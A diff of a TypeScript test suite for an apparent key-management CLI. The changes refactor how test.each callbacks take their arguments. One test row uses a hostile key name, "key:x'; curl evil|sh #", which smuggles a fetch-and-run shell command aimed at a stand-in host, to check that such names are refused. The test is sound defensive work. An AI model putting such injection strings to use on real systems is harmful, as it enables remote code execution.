@@ -167,7 +167,7 @@ test.each([
   ['create --label x --expires 0h', NO_DURATION],
   ['list --env test', 'Allowed choices are local, staging, production.'],
   ['rotate key_anna --overlap h', NO_DURATION],
-])('keys %j is refused, with the exit code 2', async (line = '', message = '') => {
+])('keys %j is refused, with the exit code 2', async (line, message) => {
   expect(await errorOf(2, line)).toContain(message);
 });
 
@@ -225,8 +225,7 @@ test.each<[title: string, change: object, name?: string, error?: string]>([
   ['a name for a shell', {}, "key:x'; curl evil|sh #\u001b", ODD_NAME],
 ])(
   'a record with %s fails each command, and other keys are revoked all the same',
-  async (...row) => {
-    const [, change, name = HASH, error = DELETE] = row;
+  async (_, change, name = HASH, error = DELETE) => {
     fake.put(ANNA);
     fake.put({ ...ANNA, ...change }, name);
     const list = await fake.run('list --env staging');
